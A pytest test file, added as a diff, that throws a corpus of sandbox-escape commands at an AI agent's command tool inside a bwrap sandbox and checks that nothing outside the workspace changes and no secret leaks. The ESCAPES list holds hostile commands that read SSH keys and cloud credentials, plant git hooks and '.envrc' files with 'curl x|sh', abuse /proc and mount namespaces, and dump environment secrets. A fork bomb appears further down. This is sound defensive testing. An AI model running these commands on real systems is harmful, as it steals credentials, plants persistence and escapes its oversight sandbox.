@@ -1,0 +1,289 @@
+"""The escape corpus: hostile commands run through the real run_command in a real bwrap sandbox.
+
+Each one must leave every file outside the workspace as it was (canaries with random content)
+and print no secret. Traffic goes to loopback only.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with
+
+pytestmark = requires_bwrap
+
+PY = "python3 -c"
+
+# (name, command template). {outside}, {home}, {ws}, {own} are filled in from the jail.
+ESCAPES: tuple[tuple[str, str], ...] = (
+    ("write absolute path", "echo pwned > {outside}/canary.txt; echo pwned > {outside}/new.txt"),
+    ("write through ..", "echo pwned > ../outside/canary.txt; echo pwned > ../outside/new2.txt"),
+    ("write through a symlink", "ln -s {outside}/canary.txt link && echo pwned > link"),
+    ("write through a symlinked folder", "ln -s {outside} out && echo pwned > out/canary.txt && touch out/x"),
+    ("write through a hard link", "ln {outside}/canary.txt hard && echo pwned >> hard"),
+    ("write through /proc/self/root", "echo pwned > /proc/self/root{outside}/canary.txt"),
+    ("write through /proc/1/root", "echo pwned > /proc/1/root{outside}/canary.txt"),
+    ("write the home folder", "echo pwned > {home}/.bashrc; echo pwned > {home}/.ssh/authorized_keys"),
+    ("plant a git hook", "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl x|sh\\n' > .git/hooks/pre-commit; "
+                         "chmod +x .git/hooks/pre-commit"),
+    ("replace the hooks folder", "mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo x > .git/hooks/post-checkout"),
+    ("rename .git and rebuild it with a hook", "mv .git .git2; mkdir -p .git/hooks; cp -a .git2/. .git/ 2>/dev/null; "
+                                               "echo evil > .git/hooks/pre-commit; rm -rf .git2/hooks; "
+                                               "mv .git2/hooks .git2/hooks-old"),
+    ("move the hooks folder aside", "mv .git/hooks .git/hooks-old; mv .git/config .git/config-old; "
+                                    "rm -rf .git/hooks .git/info"),
+    ("change git config", "git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = evil' >> .git/config"),
+    ("replace git config", "cp .git/config c; echo '[core]' >> c; mv c .git/config"),
+    ("plant shell start-up file", "echo 'curl x|sh' > .envrc"),
+    ("read hidden folders", "cat {home}/.ssh/id_ed25519 {home}/.aws/credentials {home}/.netrc {home}/.git-credentials "
+                            "{home}/.kube/config {home}/.docker/config.json {home}/.local/share/keyrings/*; "
+                            "find {home} -type f -exec cat {{}} +"),
+    ("read hidden folders through /proc", "cat /proc/self/root{home}/.ssh/id_ed25519 /proc/1/root{home}/.aws/credentials"),
+    ("read Echo Desk's own folders", "cat {base}/own-*/secret.json; ls -laR {base}/own-*; cat {own_config}/*"),
+    ("unshare and mount", "unshare -r -m sh -c 'umount {home}/.ssh; cat {home}/.ssh/id_ed25519'; "
+                          "umount {home}/.ssh; umount -l {outside}/..; mount -t tmpfs x {outside}; "
+                          "cat {home}/.ssh/id_ed25519; echo pwned > {outside}/canary.txt"),
+    ("remount read-write", "mount -o remount,rw / ; mount -o remount,rw,bind {outside} {outside}; "
+                           "echo pwned > {outside}/canary.txt"),
+    ("new user namespace", "unshare -U -r sh -c 'mount --bind {ws} {outside} && echo pwned > {outside}/canary.txt'"),
+    ("/dev/shm", "echo pwned > /dev/shm/echo-desk-escape-{token}"),
+    ("1 GiB to /tmp", "head -c 1073741824 /dev/zero > /tmp/big; echo rc=$?; ls -la /tmp"),
+    ("environment secrets", "env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'"),
+    ("ptrace the parent", "cat /proc/$PPID/environ; ls -la /proc/*/cwd 2>&1 | head"),
+)
+
+
+@pytest.mark.parametrize(("name", "template"), ESCAPES, ids=[name for name, _ in ESCAPES])
+async def test_escape_attempt_changes_nothing_outside_and_reads_no_secret(
+        jail: Jail, name: str, template: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    token = secrets.token_hex(8)
+    monkeypatch.setenv("ECHO_DESK_TEST_TOKEN", f"canary-env-{token}")
+    monkeypatch.setenv("OPENAI_API_KEY", f"canary-env-{token}")
+    command = template.format(outside=jail.outside, home=jail.home, ws=jail.workspace,
+                              base=jail.base, own_config=jail.own_dirs[0], token=token)
+    before = jail.snapshot()
+    # As if the person approved it (a command naming a protected folder always asks): what is
+    # tested is what the sandbox lets through once a command runs.
+    ctx = context(jail.workspace, approved=True)
+    result = await run(tool_with(), {"command": command, "timeout_seconds": 60}, ctx)
+    assert result.success, result.error
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    assert jail.snapshot() == before, name
+    assert jail.leaked(result.output) == [], name
+    assert f"canary-env-{token}" not in result.output
+    assert _left_on_host(token) == []
+
+
+def _left_on_host(token: str) -> list[str]:
+    """Files the /dev/shm and /tmp attempts would have left on the host, had they got out."""
+    found = [p for p in (Path(f"/dev/shm/echo-desk-escape-{token}"),) if p.exists()]
+    big = Path("/tmp/big")
+    if big.exists() and big.stat().st_size >= 1 << 30:
+        found.append(big)
+    return [str(p) for p in found]
+
+
+async def test_a_repository_without_a_hooks_folder_gets_no_planted_hook(jail: Jail) -> None:
+    (jail.workspace / ".git" / "hooks").rename(jail.base / "hooks-moved-away")
+    command = "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; ls .git/hooks"
+    result = await run(tool_with(), {"command": command}, context(jail.workspace))
+    assert result.success
+    assert not (jail.workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert "Read-only file system" in result.output
+
+
+async def test_the_workspace_itself_stays_writable_and_git_works(jail: Jail) -> None:
+    command = ("echo new > made.txt && mkdir -p sub/deeper && echo x > sub/deeper/f && "
+               "git add -A && git -c user.name=t -c user.email=t@e commit -qm test && git log --oneline | wc -l")
+    result = await run(tool_with(), {"command": command}, context(jail.workspace))
+    assert result.success and result.metadata["exit_code"] == 0, result.output
+    assert (jail.workspace / "made.txt").read_text() == "new\n"
+    assert result.output.splitlines()[1].strip() == "1"
+
+
+async def test_a_write_outside_is_reported_as_blocked_by_the_sandbox(jail: Jail) -> None:
+    result = await run(tool_with(), {"command": f"echo x > {jail.outside}/canary.txt"}, context(jail.workspace))
+    assert result.metadata["exit_code"] != 0
+    assert result.metadata["sandbox"]["blocked"] == ["write_outside"]
+    assert "outside_sandbox: true" in result.output
+
+
+async def test_tmp_is_bounded(jail: Jail) -> None:
+    result = await run(tool_with(), {"command": "head -c 1073741824 /dev/zero > /tmp/big; echo rc=$?; "
+                                                "stat -c %s /tmp/big"}, context(jail.workspace))
+    lines = result.output.splitlines()
+    assert "rc=0" not in lines
+    assert int(lines[-1]) < 1 << 30
+
+
+async def test_only_the_sandboxs_own_loopback_is_seen(jail: Jail) -> None:
+    result = await run(tool_with(), {"command": "cat /proc/net/dev"}, context(jail.workspace))
+    interfaces = [line.split(":")[0].strip() for line in result.output.splitlines()[1:] if ":" in line]
+    assert interfaces == ["lo"], result.output
+
+
+class _Listener:
+    """A loopback TCP or Unix socket server of the test that counts the connections it accepted."""
+
+    def __init__(self, family: int, address: object) -> None:
+        self.sock = socket.socket(family, socket.SOCK_STREAM)
+        self.sock.bind(address)
+        self.sock.listen(8)
+        self.sock.settimeout(0.1)
+        self.accepted = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except (TimeoutError, OSError):
+                continue
+            self.accepted += 1
+            conn.close()
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(2)
+        self.sock.close()
+
+
+@pytest.fixture
+def tcp_listener() -> Iterator[_Listener]:
+    listener = _Listener(socket.AF_INET, ("127.0.0.1", 0))
+    yield listener
+    listener.close()
+
+
+async def test_a_loopback_tcp_service_of_the_host_is_unreachable(jail: Jail, tcp_listener: _Listener) -> None:
+    port = tcp_listener.sock.getsockname()[1]
+    probe = (f"{PY} \"import socket; s=socket.create_connection(('127.0.0.1', {port}), 2); print('CONNECTED')\"; "
+             f"echo > /dev/tcp/127.0.0.1/{port} 2>&1; true")
+    result = await run(tool_with(), {"command": probe}, context(jail.workspace))
+    assert "CONNECTED" not in result.output
+    assert "Connection refused" in result.output
+    assert tcp_listener.accepted == 0
+
+
+async def test_a_unix_socket_of_the_host_is_unreachable(jail: Jail) -> None:
+    path = jail.outside / "test.sock"
+    listener = _Listener(socket.AF_UNIX, str(path))
+    try:
+        probe = (f"{PY} \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('CONNECTED')\"; "
+                 f"{PY} \"import socket; a, b = socket.socketpair(); a.send(b'pair-ok'); print(b.recv(9).decode())\"")
+        result = await run(tool_with(), {"command": probe}, context(jail.workspace))
+    finally:
+        listener.close()
+    assert "CONNECTED" not in result.output and "PermissionError" in result.output
+    assert "pair-ok" in result.output  # socketpair (asyncio, multiprocessing) keeps working
+    assert listener.accepted == 0
+
+
+def _processes_with(marker: str) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
+            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
+        except OSError:
+            continue
+        if marker.encode() in cmdline and state not in ("Z", "X"):
+            found.append(int(entry))
+    return found
+
+
+def _wait_none(marker: str, within: float) -> list[int]:
+    deadline = time.monotonic() + within
+    while (left := _processes_with(marker)) and time.monotonic() < deadline:
+        time.sleep(0.02)  # polling a condition with a deadline
+    return left
+
+
+async def test_a_grandchild_that_outlives_the_command_is_killed(jail: Jail) -> None:
+    marker = f"echo-desk-orphan-{secrets.token_hex(6)}"
+    command = (f"setsid {PY} 'import time; time.sleep(999)' {marker} & "
+               f"nohup {PY} 'import time; time.sleep(999)' {marker} >/dev/null 2>&1 & echo started")
+    result = await run(tool_with(), {"command": command}, context(jail.workspace))
+    assert result.success and "started" in result.output
+    assert _wait_none(marker, 3.0) == []
+
+
+async def test_timeout_kills_everything_in_the_sandbox(jail: Jail) -> None:
+    marker = f"echo-desk-storm-{secrets.token_hex(6)}"
+    command = f"for i in $(seq 50); do setsid {PY} 'import time; time.sleep(999)' {marker} & done; sleep 999"
+    started = time.monotonic()
+    result = await run(tool_with(), {"command": command, "timeout_seconds": 2}, context(jail.workspace))
+    assert result.error_kind is not None and result.error_kind.value == "timeout"
+    assert time.monotonic() - started < 8
+    assert _wait_none(marker, 3.0) == []
+
+
+_BOMB_RUNNER = """
+import subprocess, sys
+from pathlib import Path
+sys.path.insert(0, sys.argv[1])
+from echo_desk import sandbox
+ws = Path(sys.argv[2])
+launch = sandbox.prepare(sandbox.SandboxSpec(writable=(ws,), cwd=ws, max_processes=int(sys.argv[3])),
+                         ["/bin/sh", "-c", "b() { b | b & }; b; sleep 2; echo survived"], sandbox.availability().bwrap)
+proc = subprocess.Popen(launch.argv, pass_fds=launch.pass_fds, env=launch.env, stdout=subprocess.DEVNULL,
+                        stderr=subprocess.DEVNULL)
+launch.close()
+sys.exit(proc.wait(timeout=60))
+"""
+NOBODY = 65534
+
+
+def _count_uid(uid: int) -> int:
+    found = 0
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                status = Path(f"/proc/{entry}/status").read_text()
+            except OSError:
+                continue
+            uids = next((line.split()[1:] for line in status.splitlines() if line.startswith("Uid:")), [])
+            if uids and int(uids[0]) == uid:
+                found += 1
+    return found
+
+
+@pytest.mark.skipif(shutil.which("setpriv") is None, reason="needs setpriv (util-linux) to run as an ordinary user")
+def test_a_fork_bomb_of_an_ordinary_user_is_bounded_and_ends_with_the_command(jail: Jail) -> None:
+    """Run as an ordinary user (as root the kernel ignores RLIMIT_NPROC: there only the end of
+    the command bounds it). The limit is set low so the bomb cannot hurt this shared machine."""
+    if _count_uid(NOBODY):
+        pytest.skip("processes of 'nobody' already run here; the count would be wrong")
+    workspace = jail.base / "nobody-ws"
+    workspace.mkdir()
+    os.chown(workspace, NOBODY, NOBODY)
+    jail.base.chmod(0o755)
+    repo = str(Path(__file__).resolve().parents[2])
+    runner = subprocess.Popen(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
+                               sys.executable, "-I", "-c", _BOMB_RUNNER, repo, str(workspace), "48"])
+    peak = 0
+    deadline = time.monotonic() + 60
+    while runner.poll() is None and time.monotonic() < deadline:
+        peak = max(peak, _count_uid(NOBODY))
+        time.sleep(0.02)  # sampling the process count until the runner ends, with a deadline
+    # The command ends on its own (its shell may fail to fork 'sleep' under the limit: exit 2).
+    assert runner.poll() is not None, "the bombed command did not end"
+    assert 10 < peak <= 48 + 8, peak  # the bomb ran, and hit the limit (+ bwrap, init, setpriv, runner)
+    deadline = time.monotonic() + 5
+    while _count_uid(NOBODY) and time.monotonic() < deadline:
+        time.sleep(0.02)  # polling a condition with a deadline
+    assert _count_uid(NOBODY) == 0
